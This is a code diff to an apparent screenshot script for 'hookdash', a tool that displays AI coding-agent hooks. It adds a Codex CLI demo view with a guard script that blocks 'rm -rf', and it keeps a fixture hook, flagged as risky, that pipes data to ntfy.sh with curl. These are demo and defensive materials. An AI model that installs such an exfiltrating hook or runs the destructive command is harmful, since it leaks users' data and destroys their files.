@@ -11,6 +11,7 @@ result really runs the demo's hook; the live log shows the demo's recorded Gemin
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import shutil
 import sys
@@ -27,6 +28,7 @@ from hookdash.core import (  # noqa: E402
     create_demo,
     load_configuration,
     with_claude,
+    with_other_hosts,
 )
 from hookdash.tui.app import HookdashApp  # noqa: E402
 from hookdash.tui.screens.fire import FireScreen  # noqa: E402
@@ -41,6 +43,37 @@ SESSION = "5f0c2a9e-3d41-4b7a-9c2e-8a1d6e4f7b30"
 Steps = Callable[[Any], Awaitable[None]]
 # The demo's Claude Code hook with a risk flag (its user settings): the both-hosts view.
 CLAUDE_RISKY = "curl -sd @- ntfy.sh/shop-api"
+# Codex CLI's hooks, written into the demo's home for the three-hosts view only (the demo
+# itself has none, so every other picture and test stays as it was). Never trusted in
+# Codex's hooks.state: Codex skips them without a word, which the picture shows.
+CODEX_GUARD = "python3 ~/.codex/hooks/guard.py"
+CODEX_HOOKS = {
+    "hooks": {
+        "PreToolUse": [
+            {
+                "matcher": "Bash",
+                "hooks": [{"type": "command", "command": CODEX_GUARD, "timeout": 30}],
+            }
+        ],
+        "Stop": [{"hooks": [{"type": "command", "command": "notify-send 'Codex is done'"}]}],
+    }
+}
+
+
+def _codex_hooks(root: Path) -> None:
+    codex = root / ".codex"
+    (codex / "hooks").mkdir(parents=True, exist_ok=True)
+    (codex / "hooks.json").write_text(json.dumps(CODEX_HOOKS, indent=2) + "\n")
+    (codex / "hooks" / "guard.py").write_text(
+        "import json, sys\n"
+        "call = json.load(sys.stdin)\n"
+        "if 'rm -rf' in call.get('tool_input', {}).get('command', ''):\n"
+        "    print('rm -rf is not for agents', file=sys.stderr)\n"
+        "    sys.exit(2)\n"
+    )
+
+
+PREPARE: dict[str, Callable[[Path], None]] = {"three-hosts": _codex_hooks}
 
 
 def _select(hook_id: str, *keys: str) -> Steps:
@@ -166,6 +199,7 @@ SHOTS: list[tuple[str, tuple[int, int], Steps]] = [
     ("add-form", (120, 36), _add_form),
     ("small", (80, 24), _select("lint-on-write")),
     ("both-hosts", (120, 36), _select(CLAUDE_RISKY)),
+    ("three-hosts", (120, 36), _select(CODEX_GUARD)),
     ("claude-form", (120, 36), _claude_form),
     ("baseline-alarm", (120, 36), _worm()),
     ("baseline-accept", (120, 36), _worm("B")),
@@ -176,10 +210,13 @@ async def _shoot(name: str, size: tuple[int, int], steps: Steps) -> None:
     shutil.rmtree(DEMO_ROOT, ignore_errors=True)
     demo = create_demo(DEMO_ROOT)
     try:
+        if name in PREPARE:
+            PREPARE[name](DEMO_ROOT)
         env = demo.env
         app = HookdashApp(
             env,
-            configuration=with_claude(load_configuration(env)),  # both hosts
+            # Every host with a file here (Claude Code's, and Codex CLI's where written).
+            configuration=with_other_hosts(with_claude(load_configuration(env))),
             watch=False,
             demo=demo,
             clock=lambda: NOW,
